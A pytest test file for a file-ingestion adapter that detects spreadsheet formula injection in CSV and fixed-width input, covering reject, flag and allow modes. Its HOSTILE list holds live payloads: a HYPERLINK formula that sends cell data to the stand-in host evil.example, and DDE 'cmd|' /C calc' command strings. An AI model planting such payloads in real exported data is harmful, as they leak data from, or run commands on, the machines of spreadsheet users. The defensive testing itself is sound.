"""Formula cells in files are caught at the source: rejected, flagged or allowed, never missed."""

from __future__ import annotations

import logging
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from pydantic import BaseModel

from adapters.files.config import CsvConfig
from adapters.files.formulas import FormulaCheck, formula_cells
from bus.adapter_runtime.mapping import MappingConfig
from bus.foundation import metrics
from tests.integration.adapters.files.folders import drop, fixed_width_record, row
from tests.unit.adapters.files.test_drop_folder import (
    HEADER,
    csv_folder,
    fw_folder,
    good,
    read_all,
    refs,
)

HOSTILE = [
    '"=HYPERLINK(""https://evil.example/?d=""&A1,""Click for your badge"")"',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '"\t=1+2"',
]


def given_names(cell: str) -> bytes:
    return f"ODUYA407191JE9AB,{cell},Oduya,05/03/2025,death-of-holder,TUO-2\r\n".encode()


def flagged(adapter: str, outcome: str) -> float:
    return float(metrics.ADAPTER_FORMULA_CELLS.labels(adapter, outcome)._value.get())


@pytest.mark.parametrize("cell", HOSTILE, ids=["hyperlink", "at-sum", "plus-cmd", "minus", "tab"])
async def test_a_formula_in_a_text_column_rejects_its_row_naming_column_and_line(tmp_path, cell):
    """By default a row whose name starts like a formula is rejected; the rows around it flow."""
    source = csv_folder(tmp_path)
    assert source._config.formula_cells == "reject"
    before = flagged("t", "rejected")
    drop(source._config.folder, "a.csv", HEADER + good(1) + given_names(cell) + good(3))
    records = await read_all(source)
    assert refs(records) == ["TUO-1", "TUO-3"]
    (rejected,) = [r.rejection for r in records if r.rejection]
    assert rejected.position == "file a.csv line 3"
    assert rejected.stage == "formula"
    assert rejected.reason.startswith(
        "formula cell at file a.csv line 3: column given_names (field holder.given_names) "
        "starts with "
    )
    assert "cmd" not in rejected.reason
    assert "HYPERLINK" not in rejected.reason
    assert flagged("t", "rejected") == before + 1


@pytest.mark.parametrize(
    "name",
    ["Anne-Marie", "O'Brien", "Zoë", "Mary @ home", "a+b", "Smith-Jones"],
)
async def test_legitimate_names_with_signs_inside_them_are_published(tmp_path, name):
    """A sign after the first character is not a formula: such names are published as read."""
    source = csv_folder(tmp_path)
    drop(source._config.folder, "a.csv", HEADER + given_names(name))
    (record,) = await read_all(source)
    assert record.event is not None
    assert record.event.holder.given_names == name  # type: ignore[attr-defined]


async def test_flag_publishes_the_row_counts_it_and_logs_without_the_value(tmp_path, caplog):
    """With formula_cells = "flag" the row is published, counted and logged, value unshown."""
    source = csv_folder(tmp_path, formula_cells="flag")
    before = flagged("t", "flagged")
    drop(source._config.folder, "a.csv", HEADER + given_names(HOSTILE[0]) + good(3))
    with caplog.at_level(logging.WARNING, logger="adapters.files.formulas"):
        records = await read_all(source)
    assert refs(records) == ["TUO-2", "TUO-3"]
    assert flagged("t", "flagged") == before + 1
    (message,) = [r.getMessage() for r in caplog.records]
    assert "file a.csv line 2: column given_names (field holder.given_names)" in message
    assert "HYPERLINK" not in message
    assert "evil" not in message


async def test_allow_publishes_formulas_unchecked(tmp_path):
    """With formula_cells = "allow" nothing is checked: the formula is published as read."""
    source = csv_folder(tmp_path, formula_cells="allow")
    drop(source._config.folder, "a.csv", HEADER + given_names("@SUM(A1)"))
    (record,) = await read_all(source)
    assert record.event is not None
    assert record.event.holder.given_names == "@SUM(A1)"  # type: ignore[attr-defined]


async def test_an_exempt_field_is_not_checked(tmp_path):
    """A field listed in formula_cells_exempt is published even when it starts with a sign."""
    source = csv_folder(tmp_path, formula_cells_exempt=["holder.given_names"])
    drop(source._config.folder, "a.csv", HEADER + given_names("+Joseph"))
    assert refs(await read_all(source)) == ["TUO-2"]


async def test_a_fixed_width_file_is_checked_too(tmp_path):
    """A fixed-width record whose family name starts with "=" is rejected at its line."""
    source = fw_folder(tmp_path)
    bad = fixed_width_record(row(2) | {"family_name": "=1+2"})
    drop(source._config.folder, "a.dat", (fixed_width_record(row(1)) + bad).encode("cp500"))
    records = await read_all(source)
    assert refs(records) == ["TUO-1"]
    (rejected,) = [r.rejection for r in records if r.rejection]
    assert rejected.position == "file a.dat line 2"
    assert "column family_name (field holder.family_name) starts with '='" in rejected.reason


def test_formula_cells_defaults_to_reject_and_refuses_other_modes(tmp_path):
    """The safe default is reject; a mode other than reject, flag or allow is a config error."""
    assert CsvConfig(folder=tmp_path).formula_cells == "reject"
    with pytest.raises(ValueError, match="formula_cells"):
        CsvConfig(folder=tmp_path, formula_cells="escape")


class Payment(BaseModel):
    """A contract-like model with numeric, date and text fields, plain str included."""

    amount: Decimal
    count: int
    paid_on: date
    note: str
    phone: str = ""
    lines: tuple[str, ...] = ()


@pytest.mark.parametrize(
    ("note", "trigger"),
    [("=1+1", "'='"), ("+SUM(A1)", "'+'"), ("-A1", "'-'"), ("@A1", "'@'"),
     ("\tcmd", "a tab"), ("\rcmd", "a carriage return")],
)  # fmt: skip
def test_each_owasp_trigger_at_the_start_of_text_is_found(note, trigger):
    """=, +, -, @, tab and carriage return at the start of a text field are formula cells."""
    payment = Payment(amount=Decimal(1), count=1, paid_on=date(2025, 3, 5), note=note)
    (cell,) = formula_cells(payment)
    assert cell.field == "note"
    assert cell.describe() == f"field note starts with {trigger}"


def test_numbers_dates_and_plain_numbers_in_text_are_not_formulas():
    """-5 in a number field, a date, and text that is only a number (-5, +44...) pass."""
    payment = Payment.model_validate(
        {"amount": "-5.50", "count": "-5", "paid_on": "2025-03-05", "note": "-5",
         "phone": "+447700900123"}
    )  # fmt: skip
    assert formula_cells(payment) == []


def test_text_inside_lists_is_checked_under_its_field_name():
    """A formula in one of several lines is found and named by the field that holds it."""
    payment = Payment(
        amount=Decimal(1), count=1, paid_on=date(2025, 3, 5), note="ok", lines=("a", "=b")
    )
    assert [cell.field for cell in formula_cells(payment)] == ["lines"]


def check(mapping: dict[str, Any], mode: str = "reject") -> FormulaCheck:
    config = MappingConfig.model_validate(
        {"contract": "uk.gov.example.payment.v1", "key": "{ref}", "identity": "{ref}"} | mapping
    )
    return FormulaCheck(config, adapter="t", mode=mode)  # type: ignore[arg-type]


def test_a_constant_of_the_mapping_is_not_checked():
    """A constant is the deployment's own text, not the file's: it is never a formula cell."""
    formulas = check({"fields": {"note": {"const": "-none-"}, "amount": "amount"}})
    payment = Payment(amount=Decimal(-5), count=1, paid_on=date(2025, 3, 5), note="-none-")
    assert formulas.check({"amount": "-5"}, payment, where="file a.csv line 2") is None


def test_a_template_names_every_column_it_was_made_from():
    """Text built by a template is reported with the columns of that template."""
    formulas = check({"fields": {"note": {"template": "{first} {last}"}}})
    payment = Payment(amount=Decimal(1), count=1, paid_on=date(2025, 3, 5), note="=A1 x")
    reason = formulas.check({"first": "=A1", "last": "x"}, payment, where="file a.csv line 9")
    assert reason == (
        "formula cell at file a.csv line 9: column first, last (field note) starts with '=', "
        "which a spreadsheet would run"
    )


def test_a_mapping_function_is_checked_whatever_the_legacy_values():
    """Text from a mapping function is checked even when no legacy value starts with a sign."""
    formulas = check({"function": "tests.unit.adapters.files.test_formulas:check"})
    payment = Payment(amount=Decimal(1), count=1, paid_on=date(2025, 3, 5), note="\tcmd")
    reason = formulas.check({"x": "plain"}, payment, where="file a.csv line 4")
    assert reason is not None
    assert "field note starts with a tab" in reason
